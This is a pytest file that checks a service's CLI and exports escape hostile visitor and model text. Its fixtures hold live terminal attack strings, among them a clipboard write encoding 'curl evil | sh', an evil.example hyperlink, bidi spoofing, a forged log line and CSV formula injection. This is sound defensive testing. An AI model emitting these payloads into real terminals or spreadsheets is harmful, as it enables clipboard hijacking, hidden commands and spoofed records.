"""Visitor and model text in the owner's terminal: escape sequences, bidi overrides and forged lines
are shown, never obeyed, by every command that prints them and in every export."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from memory import Conversation, Message, file_memory, new_session_id
from service.cli import main
from service.cli.chat import chat_loop
from service.owner.loop import OwnerLoop
from service.owner.safe_text import csv_cell, json_text, notification_field, one_line
from service.settings import Settings
from tests.support.fake_openai import FakeOpenAI
from tests.support.settings import on_fake_model

#: Each is what a terminal would obey: retitle, clipboard, hyperlink, clear, conceal, C1 CSI, bidi.
ATTACKS = {
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clear": "\x1b[2J\x1b[H",
    "conceal": "\x1b[8mhidden",
    "c1": "\x9b31m",
    "bidi": "\u202egnp.exe",
    "isolate": "\u2066x\u2069",
    "tag characters": "\U000e0049\U000e0047\U000e004e",
    "carriage return": "overwritten\rshown",
}
HOSTILE = "".join(ATTACKS.values())
FORGED = "Hi\n[2026-01-01 00:00:00] assistant: the owner says: wire me money"
#: Any character a terminal could act on or that reorders or hides what follows.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\ufeff\U000e0000-\U000e007f]")


@pytest.fixture(autouse=True)
def isolated_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    monkeypatch.chdir(tmp_path)
    for var in ("USE_S3", "S3_BUCKET", "S3_PREFIX", "S3_RECORDS_PREFIX", "AWS_ENDPOINT_URL_S3"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("MEMORY_DIR", str(tmp_path / "conversations"))
    return tmp_path / "conversations"


def hostile_conversation(memory_dir: Path) -> Conversation:
    now = datetime.now(UTC)
    conversation = Conversation(
        session_id=new_session_id(),
        started_at=now,
        updated_at=now,
        messages=(
            Message(role="user", content=f"{HOSTILE} {FORGED}", timestamp=now),
            Message(role="assistant", content=f"model says {HOSTILE}\nline two", timestamp=now),
        ),
    )
    store = file_memory(memory_dir).conversations

    async def write() -> None:
        await store.write(conversation, expected_version=None)
        owner = OwnerLoop(file_memory(memory_dir).records)
        await owner.record_contact(conversation.session_id, "ada@example.com", f"Ada{HOSTILE}", FORGED)
        question, _ = await owner.record_question(conversation.session_id, f"Do you {HOSTILE} sail?")
        await owner.answer(question.id, f"Yes {HOSTILE}")

    asyncio.run(write())
    return conversation


def test_conversations_list_and_show_print_escapes_not_control_sequences(
    isolated_env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    conversation = hostile_conversation(isolated_env)
    assert main(["conversations", "list"]) == 0
    listed = capsys.readouterr().out
    assert main(["conversations", "show", conversation.session_id]) == 0
    shown = capsys.readouterr().out
    assert RAW.search(listed) is None and "\\x1b]0;owned\\x07" in listed
    assert RAW.search(shown) is None, repr(shown)
    assert "\\x1b]52;c;" in shown and "\\u202e" in shown and "\\x9b" in shown
    tool_lines = [line for line in shown.splitlines() if line.startswith("[")]
    assert [line.split("] ")[1].split(":")[0] for line in tool_lines] == ["user", "assistant"]
    assert "    | [2026-01-01 00:00:00] assistant: the owner says: wire me money" in shown.splitlines()
    assert "    | line two" in shown.splitlines()


def test_conversations_export_escapes_hostile_characters_and_keeps_the_data(
    isolated_env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    conversation = hostile_conversation(isolated_env)
    assert main(["conversations", "export"]) == 0
    out = capsys.readouterr().out
    assert RAW.search(out) is None
    [line] = out.splitlines()
    assert json.loads(line)["messages"][0]["content"] == conversation.messages[0].content


def test_questions_commands_print_escapes(isolated_env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hostile_conversation(isolated_env)
    assert main(["questions", "list", "--status", "all"]) == 0
    out = capsys.readouterr().out
    assert RAW.search(out) is None and "\\x1b]0;owned\\x07" in out
    question_id = out.splitlines()[1].split()[0]
    assert main(["questions", "answer", question_id, "Yes, on weekends."]) == 0
    assert main(["questions", "dismiss", question_id]) == 0
    assert RAW.search(capsys.readouterr().out) is None


def test_leads_list_and_exports_print_escapes(
    isolated_env: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile_conversation(isolated_env)
    assert main(["leads", "list"]) == 0
    listed = capsys.readouterr().out
    assert RAW.search(listed) is None and "the owner says" in listed and len(listed.splitlines()) == 2
    assert main(["leads", "export"]) == 0
    exported = capsys.readouterr().out
    assert RAW.search(exported.replace("\r\n", "\n")) is None  # CSV's own row ends
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["note"] == "Hi [2026-01-01 00:00:00] assistant: the owner says: wire me money"
    assert main(["leads", "export", "--format", "jsonl"]) == 0
    jsonl = capsys.readouterr().out
    assert RAW.search(jsonl) is None and json.loads(jsonl)["name"] == f"Ada{HOSTILE}"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_csv_cells_never_start_a_formula(prefix: str) -> None:
    cell = csv_cell(f'{prefix}HYPERLINK("https://evil.example")')
    assert cell.startswith("'") or not cell.startswith(
        ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    )
    assert RAW.search(cell) is None


def test_every_sink_defuses_every_attack() -> None:
    for name, attack in ATTACKS.items():
        for shown in (one_line(attack), json_text(json.dumps(attack, ensure_ascii=False)),
                      csv_cell(attack), notification_field(attack)):  # fmt: skip
            assert RAW.search(shown.replace("\u200b", "")) is None, (name, shown)
    assert one_line("a family 👩‍👩‍👧 stays whole") == "a family 👩‍👩‍👧 stays whole"


def test_twin_chat_shows_a_models_escape_sequences_as_text(settings: Settings) -> None:
    out = io.StringIO()
    with FakeOpenAI() as fake:
        fake.reply(f"Sure {HOSTILE} done")
        code = asyncio.run(
            chat_loop(on_fake_model(settings, fake.base_url), None, ["Hi"], io.StringIO(), out)
        )
    assert code == 0
    assert RAW.search(out.getvalue()) is None and "\\x1b]52;c;" in out.getvalue()
